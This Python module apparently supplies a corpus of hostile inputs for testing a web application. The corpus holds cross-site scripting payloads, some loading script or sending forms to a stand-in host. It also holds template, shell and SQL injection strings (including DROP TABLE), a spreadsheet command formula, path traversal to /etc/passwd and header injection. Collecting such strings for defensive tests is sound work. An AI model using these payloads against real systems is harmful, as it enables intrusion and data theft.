"""What a hostile visitor types: our own collection, and a larger one where it is at hand.

The larger one is the "big list of naughty strings", which is no part of the repository: it is
read from the file that HOSTILE_STRINGS names, or from beside the repository.
"""

import json
import os
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent.parent
BESIDE = ROOT.parent / "shared" / "data" / "text" / "blns.json"

MARKUP = [
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "'\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></div></main><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    '[x](https://example.org "onclick=alert(1)")',
    "![x](https://evil.example/pixel.gif)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "`<script>alert(1)</script>`",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=x></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<style>@import url(//evil.example/)</style>",
    "<x style=position:fixed;inset:0>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "javascript:alert(1)//http://example.org",
    'https://example.org/" onclick="alert(1)',
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{% load static %}{% csrf_token %}",
    "{{ settings.SECRET_KEY }}{{ request.session }}",
    "${7*7}#{7*7}<%= 7*7 %>{{7*7}}",
    "%(name)s %s %d %n %99999999d",
    "{0.__class__.__mro__}",
    "$(sleep 9)`sleep 9`; sleep 9 | sleep 9",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE people_person; --",
    "\\'; SELECT pg_sleep(9); --",
    "1) UNION SELECT NULL,version()--",
    "a' & !!b | (c:* <-> 'd",
    "' || pg_sleep(9) || '",
    "% _ \\% \\\\",
    "E'\\x41' $$x$$ /* */",
]
LETTERS = [
    "\x00",
    "before\x00after",
    "\ufeff\u200b\u2060",
    "\u202eesrever\u202c and \u2066isolated",
    "Z̴̡̛͎̠̰̲̼͖̜̞̦̦̯̘̲̯̪͂̈́̓a̵̛͙̞̽̀̾͋̅̊l̷͈̝̠͐̈́g̸̨̛̼̜̙̾̅o̷͚͝",
    "e" + "\u0301" * 500,
    "👩🏽‍👩🏾‍👧🏼‍👦🏿🏳️‍🌈🇺🇳",
    "ﷺ﷽𒐫꧅",
    "ﬁ Ⅷ ① ½ İı ſ ẞ",
    "\u0000\u0001\u0008\u000b\u000c\u000e\u001f\u007f\u0085\u2028\u2029",
    "\ud800 alone \udfff",
    "\U0010ffff\ufffe\uffff",
    "مرحبا\u200f بالعالم",
    "\u3164\u115f\u1160",
    "   \t \u00a0 \u3000 ",
    "a" * 200,
    "w" * 4000,
    "line\r\nline\rline\nline",
    "Name\r\nBcc: everybody@example.org\r\n\r\nBody",
    "Name\nSubject: other",
    "Name%0d%0aBcc:%20x@example.org",
    "=cmd|'/C calc'!A0",
    "../../../../etc/passwd",
    "..%2f..%2f%00",
    "file:///etc/passwd",
    "http://127.0.0.1:6379/",
    "NaN", "Infinity", "-1", "0", "1e309", "9" * 400, "0x10", "٣٤", "null", "undefined", "true",
    "[]", "{}", '{"$gt": ""}', "on", "new", "check", "admin", "None",
]  # fmt: skip
OWN = [*MARKUP, *TEMPLATES, *SQL, *LETTERS]


def large_collection() -> list[str]:
    """The larger one; empty where it is not at hand."""
    file = Path(os.environ.get("HOSTILE_STRINGS", BESIDE))
    if not file.is_file():
        return []
    strings: list[str] = json.loads(file.read_text(encoding="utf-8"))
    return [words for words in strings if words]


def as_typed(words: str) -> str:
    """What arrives when a browser sends `words`: no lone surrogates, as no browser sends them."""
    return words.encode("utf-8", "replace").decode("utf-8")
